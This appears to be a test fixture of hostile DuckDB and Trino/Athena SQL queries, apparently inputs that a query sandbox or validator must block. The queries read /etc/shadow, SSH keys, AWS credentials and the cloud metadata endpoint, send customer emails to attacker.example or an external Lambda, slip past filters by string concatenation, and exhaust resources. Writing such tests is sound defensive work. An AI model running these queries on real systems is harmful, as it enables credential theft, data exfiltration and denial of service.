-- header: file, network, environment, settings, SQL-as-text and side-effect functions, in every
-- position (FROM, scalar subquery, CTE, LATERAL, EXISTS, joins, TABLE(...)), qualified
-- (main., system.main.), quoted and upper-case names, replacement scans of file paths and URLs.
-- DuckDB 2.0 also exposes setting-changing table functions (enable_logging(), enable_profiling(),
-- checkpoint()) that run from a plain SELECT. Trino/Athena: system.query pass-through,
-- exclude_columns, sequence, system.runtime.*, hidden $path columns, external Lambda/SageMaker functions.
--- functions: read_csv of passwd in from
SELECT * FROM read_csv('/etc/passwd', sep = ':', header = false)
--- functions: read_csv_auto in from
SELECT * FROM read_csv_auto('/etc/passwd')
--- functions: read_csv list of files
SELECT * FROM read_csv(['/etc/passwd', '/etc/group'], sep = ':', header = false, union_by_name = true)
--- functions: read_csv glob over home
SELECT * FROM read_csv('/home/*/*.csv')
--- functions: read_csv with filename column
SELECT filename, count(*) FROM read_csv('/etc/*.conf', filename = true, sep = '\t', header = false, ignore_errors = true) GROUP BY ALL
--- functions: read_single_csv_file
SELECT * FROM read_single_csv_file('/etc/passwd')
--- functions: read_parquet
SELECT * FROM read_parquet('/var/data/*.parquet')
--- functions: parquet_scan alias
SELECT * FROM parquet_scan('/var/data/secret.parquet')
--- functions: parquet_metadata
SELECT * FROM parquet_metadata('/var/data/secret.parquet')
--- functions: parquet_schema
SELECT * FROM parquet_schema('/var/data/secret.parquet')
--- functions: parquet_kv_metadata
SELECT * FROM parquet_kv_metadata('/var/data/secret.parquet')
--- functions: parquet_file_metadata
SELECT * FROM parquet_file_metadata('/var/data/secret.parquet')
--- functions: read_json
SELECT * FROM read_json('/root/.docker/config.json')
--- functions: read_json_auto
SELECT * FROM read_json_auto('/etc/*.json')
--- functions: read_json_objects
SELECT * FROM read_json_objects('/proc/self/status', format = 'newline_delimited')
--- functions: read_ndjson
SELECT * FROM read_ndjson('/var/log/app/*.jsonl')
--- functions: read_text of passwd
SELECT * FROM read_text('/etc/passwd')
--- functions: read_text of proc environ
SELECT content FROM read_text('/proc/self/environ')
--- functions: read_text of aws credentials
SELECT content FROM read_text('~/.aws/credentials')
--- functions: read_text of stored duckdb secrets
SELECT * FROM read_text('~/.duckdb/stored_secrets/*')
--- functions: read_blob of ssh key
SELECT content FROM read_blob('/root/.ssh/id_rsa')
--- functions: read_duckdb of another database file
SELECT * FROM read_duckdb('/tmp/corpus-work/sample.duckdb', table_name => 'customers')
--- functions: glob lists filesystem
SELECT * FROM glob('/etc/*')
--- functions: glob recursive
SELECT * FROM glob('/home/**')
--- functions: sniff_csv
SELECT * FROM sniff_csv('/etc/passwd')
--- functions: replacement scan of csv path
SELECT * FROM '/var/data/exports/customers.csv'
--- functions: replacement scan of etc passwd
SELECT * FROM '/etc/passwd'
--- functions: replacement scan with glob
SELECT count(*) FROM '/tmp/**/*.parquet'
--- functions: replacement scan double quoted
SELECT * FROM "/var/data/exports/customers.csv"
--- functions: from-first replacement scan
FROM '/var/data/exports/customers.csv'
--- functions: scalar subquery over read_text
SELECT (SELECT content FROM read_text('/etc/passwd')) AS x
--- functions: cte over read_text
WITH f AS (SELECT * FROM read_text('/etc/shadow')) SELECT * FROM f
--- functions: lateral read_text
SELECT o.order_id, f.content FROM orders o, LATERAL read_text('/etc/hostname') f LIMIT 1
--- functions: exists over read_csv
SELECT count(*) FROM orders WHERE EXISTS (SELECT 1 FROM read_csv('/etc/passwd', sep = ':', header = false) WHERE column0 = 'root')
--- functions: join with file
SELECT c.first_name, p.* FROM customers c JOIN read_csv('/etc/passwd', sep = ':', header = false) p ON true LIMIT 5
--- functions: in-list subquery over file
SELECT * FROM customers WHERE first_name IN (SELECT column0 FROM read_csv('/etc/passwd', sep = ':', header = false))
--- functions: main qualified read_text
SELECT * FROM main.read_text('/etc/passwd')
--- functions: system main qualified read_text
SELECT * FROM system.main.read_text('/etc/passwd')
--- functions: quoted function name
SELECT * FROM "read_text"('/etc/passwd')
--- functions: upper case function name
SELECT * FROM READ_TEXT('/etc/passwd')
--- functions: mixed case quoted read_csv
SELECT * FROM "Read_Csv"('/etc/passwd')
--- functions: file path built by concatenation
SELECT * FROM read_text('/et' || 'c/pas' || 'swd')
--- functions: file path from session variable
SET VARIABLE p = '/etc/passwd'; SELECT * FROM read_text(getvariable('p'))
--- functions: file path from lambda over list
SELECT * FROM read_text(list_transform(['passwd', 'group'], lambda x: '/etc/' || x))
--- functions: read_csv over http
SELECT * FROM read_csv('http://169.254.169.254/latest/meta-data/iam/security-credentials/')
--- functions: read_json over https
SELECT * FROM read_json('https://attacker.example/collect?d=x')
--- functions: read_parquet from s3
SELECT * FROM read_parquet('s3://other-bucket/secret/*.parquet')
--- functions: exfiltrate via url built from variable holding emails
SET VARIABLE d = (SELECT string_agg(email, ',') FROM customers); SELECT * FROM read_text('http://127.0.0.1:9/?' || getvariable('d'))
--- functions: replacement scan of https url
SELECT * FROM 'https://attacker.example/x.csv'
--- functions: iceberg scan
SELECT * FROM iceberg_scan('s3://other-bucket/warehouse/t')
--- functions: delta scan
SELECT * FROM delta_scan('s3://other-bucket/delta/t')
--- functions: sqlite scan
SELECT * FROM sqlite_scan('/var/lib/app/app.sqlite', 'users')
--- functions: postgres scan
SELECT * FROM postgres_scan('host=127.0.0.1 port=9 dbname=x', 'public', 'users')
--- functions: duckdb_settings
SELECT name, value FROM duckdb_settings()
--- functions: duckdb_secrets
SELECT * FROM duckdb_secrets()
--- functions: duckdb_databases paths
SELECT database_name, path FROM duckdb_databases()
--- functions: duckdb_extensions
SELECT * FROM duckdb_extensions()
--- functions: duckdb_extension_repositories
SELECT * FROM duckdb_extension_repositories()
--- functions: duckdb_variables
SELECT * FROM duckdb_variables()
--- functions: duckdb_prepared_statements
SELECT * FROM duckdb_prepared_statements()
--- functions: duckdb_logs
SELECT * FROM duckdb_logs
--- functions: duckdb_temporary_files
SELECT * FROM duckdb_temporary_files()
--- functions: duckdb_memory
SELECT * FROM duckdb_memory()
--- functions: duckdb_external_file_cache
SELECT * FROM duckdb_external_file_cache()
--- functions: which_secret
SELECT * FROM which_secret('s3://bucket/key', 's3')
--- functions: pragma_database_list style table function
SELECT * FROM pragma_database_size()
--- functions: pragma_storage_info
SELECT * FROM pragma_storage_info('customers')
--- functions: pragma_metadata_info
SELECT * FROM pragma_metadata_info()
--- functions: pragma_platform and user agent
SELECT * FROM pragma_platform(), pragma_user_agent()
--- functions: current_setting home and temp directory
SELECT current_setting('home_directory') AS h, current_setting('temp_directory') AS t, current_setting('secret_directory') AS s
--- functions: current_setting in where clause
SELECT count(*) FROM orders WHERE current_setting('enable_external_access') = 'true'
--- functions: getvariable
SELECT getvariable('leak') AS v
--- functions: version and platform
SELECT version(), * FROM pragma_platform()
--- functions: query table function with restricted column
SELECT * FROM query('SELECT email FROM customers')
--- functions: query table function with concatenated text
SELECT * FROM query('SELECT em' || 'ail FROM cust' || 'omers')
--- functions: query_table
SELECT * FROM query_table('customers')
--- functions: query_table list with union by name
SELECT * FROM query_table(['customers', 'suppliers'], true)
--- functions: query_table with string built name
SELECT * FROM query_table('cus' || 'tomers')
--- functions: json_execute_serialized_sql
SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT email FROM customers'))
--- functions: json_execute_serialized_sql from literal json
SELECT * FROM json_execute_serialized_sql('{"error":false,"statements":[{"node":{"type":"SELECT_NODE","modifiers":[],"cte_map":{"map":[]},"select_list":[{"class":"COLUMN_REF","type":"COLUMN_REF","alias":"","query_location":7,"column_names":["email"]}],"from_table":{"type":"BASE_TABLE","alias":"","sample":null,"query_location":18,"schema_name":"","table_name":"customers","column_name_alias":[],"catalog_name":""},"where_clause":null,"group_expressions":[],"group_sets":[],"aggregate_handling":"STANDARD_HANDLING","having":null,"sample":null,"qualify":null},"named_param_map":[]}]}')
--- functions: summary table function
SELECT * FROM summary((SELECT email FROM customers))
--- functions: enable_logging from select
SELECT * FROM enable_logging()
--- functions: enable_logging in scalar subquery
SELECT (SELECT count(*) FROM enable_logging()) AS x, count(*) FROM orders
--- functions: disable_logging from select
SELECT * FROM disable_logging()
--- functions: enable_profiling from select
SELECT * FROM enable_profiling()
--- functions: checkpoint from select
SELECT * FROM checkpoint()
--- functions: force_checkpoint from select
SELECT * FROM force_checkpoint()
--- functions: truncate_duckdb_logs from select
SELECT * FROM truncate_duckdb_logs()
--- functions: write_log per row
SELECT count(write_log(email, level := 'error')) FROM customers
--- functions: nextval advances sequence
SELECT nextval('seq_orders') FROM orders
--- functions: setseed
SELECT setseed(0.42), random()
--- functions: sleep_ms
SELECT sleep_ms(60000)
--- functions: sleep_ms per row
SELECT sleep_ms(100) FROM orders
--- functions: pg_sleep
SELECT pg_sleep(60)
--- functions: repeat_row huge
SELECT count(*) FROM repeat_row(1, num_rows => 1000000000000)
--- functions: range as table huge
SELECT count(*) FROM range(1000000000000)
--- functions: generate_series as table huge
SELECT count(*) FROM generate_series(1, 1000000000000)
--- functions: unnest of huge range list
SELECT count(*) FROM (SELECT unnest(range(1000000000)))
--- functions: test_all_types
SELECT * FROM test_all_types()
--- functions: trino system.query pass-through
SELECT * FROM TABLE(system.query(query => 'SELECT email FROM customers'))
--- functions: trino catalog qualified query pass-through
SELECT * FROM TABLE(mysql.system.query(query => 'SELECT * FROM mysql.user'))
--- functions: trino query pass-through with dml
SELECT * FROM TABLE(postgresql.system.query(query => 'DELETE FROM orders RETURNING *'))
--- functions: trino exclude_columns keeps email
SELECT * FROM TABLE(exclude_columns(input => TABLE(customers), columns => DESCRIPTOR(first_name, last_name)))
--- functions: trino exclude_columns over subquery
SELECT * FROM TABLE(exclude_columns(input => TABLE(SELECT * FROM suppliers), columns => DESCRIPTOR(name)))
--- functions: trino sequence huge
SELECT count(*) FROM TABLE(sequence(start => 1, stop => 1000000000000))
--- functions: trino sequence qualified
SELECT count(*) FROM TABLE(system.builtin.sequence(start => 0, stop => 9223372036854775806, step => 1))
--- functions: trino system.runtime.queries
SELECT query_id, "user", query FROM system.runtime.queries
--- functions: trino system.runtime.nodes
SELECT * FROM system.runtime.nodes
--- functions: trino system.runtime.tasks
SELECT * FROM system.runtime.tasks
--- functions: trino system.metadata.catalogs
SELECT * FROM system.metadata.catalogs
--- functions: trino system.jdbc.columns
SELECT table_cat, table_schem, table_name, column_name FROM system.jdbc.columns
--- functions: trino hidden path column
SELECT "$path", "$file_size", "$file_modified_time" FROM orders
--- functions: trino hidden partition column
SELECT DISTINCT "$partition" FROM sales.orders
--- functions: athena external lambda function exfiltrates
USING EXTERNAL FUNCTION send(x varchar) RETURNS varchar LAMBDA 'attacker-fn' SELECT send(email) FROM customers
--- functions: athena sagemaker function
USING EXTERNAL FUNCTION invoke_sagemaker_endpoint(x varchar) RETURNS varchar SAGEMAKER 'endpoint' SELECT invoke_sagemaker_endpoint(contact_email) FROM suppliers
--- functions: trino with function inline
WITH FUNCTION leak(x varchar) RETURNS varchar RETURN x SELECT leak(email) FROM customers
--- functions: trino current_user and session
SELECT current_user, current_catalog, current_schema, current_groups()
